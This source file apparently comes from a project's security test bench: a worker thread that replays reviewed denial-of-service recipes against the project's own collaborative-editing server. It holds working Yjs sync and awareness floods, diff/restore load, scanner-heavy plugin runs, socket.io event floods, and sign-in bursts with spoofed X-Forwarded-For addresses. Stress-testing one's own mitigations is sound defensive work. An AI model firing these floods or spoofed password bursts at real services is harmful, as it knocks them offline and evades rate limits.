// The attack bench's attacker, in a worker thread of its own (building a 100k-entry awareness frame
// or firing thousands of events must not hold up the bench's own clocks): one attack from the
// security review's recipes (../shared/security-repro), repeated until its window ends. Whatever the
// studio closes or refuses, the attacker opens again and goes on, as a determined stranger would.
//   workerData: { kind, seconds, fixture }   fixture: see AttackFixture in attack-bench.ts
//   posts { type: 'ready' }, waits for 'go', attacks for `seconds`, posts { type: 'done', summary }
import { parentPort, workerData } from 'node:worker_threads';
import * as encoding from 'lib0/encoding';
import { io } from 'socket.io-client';
import { WebSocket } from 'ws';

const { kind, seconds, fixture } = workerData;
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));

// ---- Yjs frames (as tests/integration/dos-yjs.test.ts and the recipe's yjs-client.mjs build them) ----

const frame = (write) => {
	const encoder = encoding.createEncoder();
	write(encoder);
	return encoding.toUint8Array(encoder);
};

/** Sync step 1 with an empty state vector: "send me everything". */
const STEP1 = Uint8Array.from([0, 0, 1, 0]);

/** An awareness update of `count` entries, each a client id never seen, clock 1, state {}. */
function awarenessFlood(firstId, count) {
	return frame((e) => {
		encoding.writeVarUint(e, 1);
		encoding.writeVarUint8Array(
			e,
			frame((a) => {
				encoding.writeVarUint(a, count);
				for (let i = 0; i < count; i++) {
					encoding.writeVarUint(a, firstId + i);
					encoding.writeVarUint(a, 1);
					encoding.writeVarString(a, '{}');
				}
			})
		);
	});
}

const tally = (counts, key) => counts.set(key, (counts.get(key) ?? 0) + 1);
const describe = (counts) => [...counts].map(([key, n]) => `${n} × ${key}`).join(', ') || 'none';

/**
 * One raw draft socket after another with the owner's cookie: each, once authorised (the server's
 * own step 1 came), sends `batch` frames every `everyMs` until the server closes or cuts it (or
 * `lifeMs` passes); then the next opens. `reads: false` pauses the socket at once, as the step-1
 * recipe does, so what the server answers piles up on the server's side.
 */
async function yjsFlood(deadline, { reads, next, batch, everyMs, lifeMs }) {
	const closes = new Map();
	let sockets = 0;
	let frames = 0;
	while (Date.now() < deadline) {
		sockets++;
		const socket = new WebSocket(`${fixture.yjsUrl}/${fixture.promptId}`, { headers: { cookie: fixture.ownerCookie }, perMessageDeflate: false });
		let open = true;
		const closed = new Promise((done) =>
			socket.once('close', (code) => {
				open = false;
				tally(closes, code === 1006 ? 'cut (1006)' : String(code));
				done();
			})
		);
		socket.on('error', () => undefined);
		const authorised = await Promise.race([new Promise((done) => socket.once('message', () => done(true))), closed.then(() => false), sleep(5_000).then(() => false)]);
		if (authorised) {
			if (!reads) socket.pause();
			else socket.on('message', () => undefined);
			const ends = Math.min(deadline, Date.now() + lifeMs);
			while (open && socket.readyState === socket.OPEN && Date.now() < ends) {
				for (let i = 0; i < batch && socket.readyState === socket.OPEN; i++, frames++) socket.send(next());
				await sleep(everyMs);
			}
		}
		if (open) {
			// Our own end (the window or the socket's life is over): not the server's doing.
			socket.removeAllListeners('close');
			if (Date.now() < deadline) tally(closes, authorised ? 'still open after its life (ended by the attacker)' : 'not authorised within 5 s (ended by the attacker)');
			socket.terminate();
		}
	}
	return `${sockets} sockets, ${frames.toLocaleString('en-US')} frames sent; the studio ended them: ${describe(closes)}`;
}

async function step1Flood(deadline) {
	// The recipe's F2a: 50 step 1s every 5 ms, never reading the answers (each is the whole draft).
	return yjsFlood(deadline, { reads: false, next: () => STEP1, batch: 50, everyMs: 5, lifeMs: 5_000 });
}

// The recipe's F2b: 100,000 fresh client ids in each frame (~700 kB), built before the window.
const awarenessFrames = kind === 'awareness' ? Array.from({ length: 8 }, (_, i) => awarenessFlood(1_000_000 + i * 100_000, 100_000)) : [];

async function awarenessAttack(deadline) {
	// A frame every 200 ms, read what comes back; the ids are still fresh on every new socket.
	let n = 0;
	return yjsFlood(deadline, { reads: true, next: () => awarenessFrames[n++ % awarenessFrames.length], batch: 1, everyMs: 200, lifeMs: 5_000 });
}

// ---- HTTP attacks ----

const formHeaders = (extra = {}) => ({ accept: 'text/html', origin: fixture.httpUrl, 'content-type': 'application/x-www-form-urlencoded', ...extra });

/** Requests `send()` back to back until the deadline; statuses and the slowest answer. */
async function loop(deadline, send) {
	const statuses = new Map();
	let slowest = 0;
	let total = 0;
	let count = 0;
	while (Date.now() < deadline) {
		const started = performance.now();
		const status = await send().catch((error) => `error ${error.cause?.code ?? error.name}`);
		const took = performance.now() - started;
		slowest = Math.max(slowest, took);
		total += took;
		count++;
		tally(statuses, status);
	}
	return `${count} answered (${describe(statuses)}), mean ${(total / Math.max(1, count)).toFixed(0)} ms, slowest ${slowest.toFixed(0)} ms`;
}

async function diffAttack(deadline) {
	// The recipe's F3, both halves at once: the diff page of v1 and v2 (a word diff of two 48k-character
	// lines that share no word), and restoring v1, v2, v1… over the draft (a character diff each time).
	const { path } = fixture.diff;
	const cookie = fixture.ownerCookie;
	let version = 0;
	const [page, restore] = await Promise.all([
		loop(deadline, async () => {
			const response = await fetch(`${fixture.httpUrl}${path}/versions/diff?from=1&to=2`, { headers: { accept: 'text/html', cookie }, signal: AbortSignal.timeout(60_000) });
			await response.arrayBuffer();
			return response.status;
		}),
		loop(deadline, async () => {
			const body = new URLSearchParams({ version: String((version++ % 2) + 1) }).toString();
			const response = await fetch(`${fixture.httpUrl}${path}/versions?/restore`, { method: 'POST', body, headers: formHeaders({ cookie }), redirect: 'manual', signal: AbortSignal.timeout(60_000) });
			await response.arrayBuffer();
			return response.status;
		})
	]);
	return `diff page (word diff): ${page}; restore (character diff): ${restore}`;
}

async function pluginAttack(deadline) {
	// The recipe's F5: every run's answer is 10k characters of `token-` (ends with a real secret), which
	// the security scanner reads; two runs at a time, back to back, through the prompt API.
	const { slug, token } = fixture.scanner;
	const outcomes = new Map();
	const run = () =>
		loop(deadline, async () => {
			const response = await fetch(`${fixture.httpUrl}/api/v1/prompts/${slug}/run`, {
				method: 'POST',
				body: JSON.stringify({ variables: { language: 'python', code: 'x' }, cacheMode: 'never' }),
				headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
				signal: AbortSignal.timeout(60_000)
			});
			const text = await response.text();
			const done = /event: done\ndata: (.+)/.exec(text)?.[1];
			if (done) tally(outcomes, JSON.parse(done).status);
			return response.status;
		});
	const [a, b] = await Promise.all([run(), run()]);
	return `runs: ${a}; ${b}; run outcomes: ${describe(outcomes)}`;
}

async function signinAttack(deadline) {
	// The recipe's F7: 40 wrong passwords fired at once, burst after burst, each burst at another
	// account name (an unknown name costs the studio the same argon2 check, burnPasswordCheck) and each
	// request from an address of its own (X-Forwarded-For, trusted as behind the Space's proxy).
	const statuses = new Map();
	let bursts = 0;
	let slowest = 0;
	while (Date.now() < deadline) {
		const username = `guess${bursts++}x${Math.random().toString(36).slice(2, 10)}`;
		const started = performance.now();
		await Promise.all(
			Array.from({ length: 40 }, async (_, i) => {
				const address = `10.${(bursts * 40 + i) % 250}.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}`;
				const body = new URLSearchParams({ username, password: `wrong guess ${i}` }).toString();
				const status = await fetch(`${fixture.httpUrl}/signin`, { method: 'POST', body, headers: formHeaders({ 'x-forwarded-for': address }), redirect: 'manual', signal: AbortSignal.timeout(60_000) }).then(
					async (response) => (await response.arrayBuffer(), response.status),
					(error) => `error ${error.cause?.code ?? error.name}`
				);
				tally(statuses, status);
			})
		);
		slowest = Math.max(slowest, performance.now() - started);
	}
	return `${bursts} bursts of 40 (${describe(statuses)}; 400 = a password checked, 429 = refused before any check), slowest burst ${slowest.toFixed(0)} ms`;
}

async function socketFlood(deadline) {
	// One socket.io socket emitting session:join for a session it may see, with an acknowledgement, as
	// fast as its acknowledgements come back (at most 2,000 waiting): every one must be answered.
	const socket = io(fixture.httpUrl, { path: fixture.socketPath, transports: ['websocket'], reconnection: false, forceNew: true, extraHeaders: { cookie: fixture.ownerCookie } });
	await new Promise((done, fail) => {
		socket.once('connect', done);
		socket.once('connect_error', fail);
	});
	const answers = new Map();
	let sent = 0;
	let waiting = 0;
	let disconnected = null;
	socket.once('disconnect', (reason) => (disconnected = reason));
	while (Date.now() < deadline && !disconnected) {
		for (let i = 0; i < 200 && waiting < 2_000; i++, sent++, waiting++) {
			socket.emit('session:join', { sessionId: fixture.sessionId }, (result) => {
				waiting--;
				tally(answers, result?.ok ? 'joined' : (result?.error?.code ?? 'other'));
			});
		}
		await sleep(1);
	}
	await Promise.race([
		(async () => {
			while (waiting > 0 && !disconnected) await sleep(20);
		})(),
		sleep(5_000)
	]);
	socket.removeAllListeners('disconnect');
	socket.disconnect();
	return `${sent.toLocaleString('en-US')} session:join events sent, answered: ${describe(answers)}${waiting > 0 ? `, ${waiting} unanswered` : ''}${disconnected ? `; disconnected by the studio (${disconnected})` : ''}`;
}

const ATTACKS = { step1: step1Flood, awareness: awarenessAttack, diff: diffAttack, plugin: pluginAttack, socketio: socketFlood, signin: signinAttack };

parentPort.once('message', async () => {
	try {
		const summary = await ATTACKS[kind](Date.now() + seconds * 1000);
		parentPort.postMessage({ type: 'done', summary });
	} catch (error) {
		parentPort.postMessage({ type: 'done', summary: `the attacker failed: ${error.stack ?? error}` });
	}
	parentPort.close();
});
parentPort.postMessage({ type: 'ready' });
